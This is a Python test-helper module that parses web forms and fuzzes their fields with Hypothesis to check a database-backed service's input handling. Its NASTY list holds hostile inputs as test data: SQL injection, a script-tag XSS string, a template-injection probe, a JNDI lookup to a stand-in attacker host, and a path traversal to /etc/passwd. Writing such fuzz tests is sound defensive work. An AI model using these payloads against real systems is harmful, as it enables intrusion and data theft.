"""Helpers for tests/test_form_fuzzing.py: read a page's forms, and generate hostile
answers for their fields with Hypothesis."""

from __future__ import annotations

from dataclasses import dataclass, field

from bs4 import BeautifulSoup
from hypothesis import strategies as st
from sqlalchemy import String, TextClause, func, literal, select, text, union_all

from mhst.extensions import db

# What a hostile or careless user might type: injection, markup, control characters, a
# huge string, odd unicode (right-to-left override, combining marks, emoji, a lone
# surrogate written out, a byte-order mark, non-ASCII digits), impossible dates and
# numbers too small or large for any column.
NASTY = (
    "' OR 1=1 --",
    "'; DROP TABLE referral; --",
    '"><script>alert(1)</script>',
    "{{ 7 * 7 }}",
    "${jndi:ldap://attacker.example/a}",
    "../../../etc/passwd",
    "%00",
    "\x00",
    "text\x00with a null",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f",
    "\r\n\t",
    "A" * 100_000,
    "\u202eelbisivni\u202c",
    "e\u0301\u0302\u0303\u0304\u0305",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f9e0",
    "\\ud800\\udfff",
    "\ufeff",
    "\u0663\u0664",
    "\uff11\uff12",
    "",
    " ",
    "31/02/2026",
    "2026-02-31",
    "0",
    "-1",
    "-99999999999999999999",
    "99999999999999999999999999",
    "1e308",
    "NaN",
    "Infinity",
    "2147483648",
)
# Day, month, year for the NHS date inputs (``name-day``, ``name-month``, ``name-year``).
IMPOSSIBLE_DATES = (
    ("31", "2", "2026"),
    ("29", "2", "2025"),
    ("0", "0", "0"),
    ("32", "13", "2026"),
    ("-1", "-1", "-1"),
    ("1", "1", "99999999999"),
    ("1", "1", "1"),
    ("31", "12", "9999"),
)

# Fields the client never types and a fuzzer must leave alone to reach the form at all.
KEPT_AS_GIVEN = frozenset({"csrf_token"})


@dataclass
class Form:
    """A POST form on a page: where it posts, and each field's name and what the page
    offers for it (its value, or its options for radios, checkboxes and selects)."""

    action: str
    values: dict[str, str] = field(default_factory=dict)
    options: dict[str, list[str]] = field(default_factory=dict)
    multiple: set[str] = field(default_factory=set)

    @property
    def date_groups(self) -> list[str]:
        names = set(self.values) | set(self.options)
        groups = {name.removesuffix("-day") for name in names if name.endswith("-day")}
        return sorted(group for group in groups if {f"{group}-month", f"{group}-year"} <= names)


def post_forms(html: str) -> list[Form]:
    """The POST forms of a page, but the header's sign-out."""
    return page_forms(html, "post")


def page_forms(html: str, method: str) -> list[Form]:
    """The forms of a page sent with ``method`` ("get" or "post"), but the sign-out."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for element in soup.find_all("form"):
        if element.get("method", "get").lower() != method or element["action"] == "/sign-out":
            continue
        form = Form(action=element["action"])
        for control in element.find_all(["input", "textarea", "select"]):
            name = control.get("name")
            if not name or control.get("type") in ("submit", "button"):
                continue
            if control.name == "select":
                form.options[name] = [o.get("value", o.get_text()) for o in control("option")]
                if control.has_attr("multiple"):
                    form.multiple.add(name)
            elif control.get("type") in ("radio", "checkbox"):
                form.options.setdefault(name, []).append(control.get("value", "y"))
                if control.get("type") == "checkbox":
                    form.multiple.add(name)
            elif control.name == "textarea":
                form.values[name] = control.get_text()
            else:
                form.values.setdefault(name, control.get("value", ""))
        found.append(form)
    return found


nasty = st.sampled_from(NASTY)
# Short text from anywhere in unicode but surrogates (which cannot be sent as UTF-8).
odd_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


def _value(form: Form, name: str):
    """A strategy for one field: hostile text, or what the page offers."""
    if name in KEPT_AS_GIVEN:
        return st.just(form.values[name])
    if name in form.options:
        offered = st.sampled_from(form.options[name]) if form.options[name] else nasty
        if name in form.multiple:
            return st.lists(st.one_of(offered, nasty), max_size=3)
        return st.one_of(offered, nasty, odd_text)
    return st.one_of(st.just(form.values[name]), nasty, odd_text)


# Plausible answers by the field's name, so that a form with one hostile answer among
# good ones gets past its other checks to the database (a missing length limit shows
# only there). The first match wins; anything else is a few invented words.
PLAUSIBLE = (
    ("csrf_token", None),
    ("email", "someone@invented.example"),
    ("phone", "01632 960000"),
    ("contact", "01632 960000"),
    ("nhs_number", "943 476 5919"),
    ("urn", "700123"),
    ("password", "a long invented passphrase 2026"),
    ("-day", "2"),
    ("-month", "11"),
    ("-year", "2026"),
    ("minutes", "45"),
    ("attendance", "20"),
    ("count", "20"),
    ("planned_sessions", "6"),
    ("age", "11"),
    ("roll", "300"),
    ("academic_year", "2026"),
    ("time", "10:30"),
)


def plausible(form: Form, name: str) -> object:
    """A likely valid answer: an offered option, a value by the field's name, or words."""
    if name in form.options:
        offered = [value for value in form.options[name] if value] or [""]
        return [offered[0]] if name in form.multiple else offered[0]
    for part, value in PLAUSIBLE:
        if part in name:
            return form.values[name] if value is None else value
    return form.values.get(name) or "Invented words for the test"


@st.composite
def answers(draw, form: Form) -> dict[str, object]:
    """Answers for every field of ``form``: either all drawn at random (some left out,
    dates sometimes impossible), or plausible answers with one or two hostile ones."""
    names = sorted(set(form.values) | set(form.options))
    if draw(st.booleans()):
        data = {name: plausible(form, name) for name in names}
        fuzzable = [name for name in names if name not in KEPT_AS_GIVEN]
        if fuzzable:
            for name in draw(st.lists(st.sampled_from(fuzzable), min_size=1, max_size=2)):
                data[name] = draw(st.one_of(nasty, _value(form, name)))
        return data
    data = {}
    for name in names:
        if name not in KEPT_AS_GIVEN and draw(st.integers(0, 9)) == 0:
            continue  # a field missing from the request altogether
        data[name] = draw(_value(form, name))
    for group in form.date_groups:
        if draw(st.booleans()):
            day, month, year = draw(st.sampled_from(IMPOSSIBLE_DATES))
            data.update({f"{group}-day": day, f"{group}-month": month, f"{group}-year": year})
    return data


_ROW_COUNTS: dict[tuple[frozenset[str], str], TextClause] = {}


def row_counts(excluded: frozenset[str]) -> dict[str, int]:
    """The number of rows in every table but ``excluded``, in one query.

    The query's SQL is made once per ``excluded`` and database dialect: building and
    compiling a union of a hundred selects each time cost about a fifth of the fuzzing."""
    dialect = db.session.get_bind().dialect
    key = (excluded, dialect.name)
    if key not in _ROW_COUNTS:
        tables = [table for table in db.metadata.sorted_tables if table.name not in excluded]
        query = union_all(
            *(
                select(literal(table.name, String), func.count()).select_from(table)
                for table in tables
            )
        )
        compiled = query.compile(dialect=dialect, compile_kwargs={"literal_binds": True})
        _ROW_COUNTS[key] = text(str(compiled))
    return dict(db.session.execute(_ROW_COUNTS[key]).all())
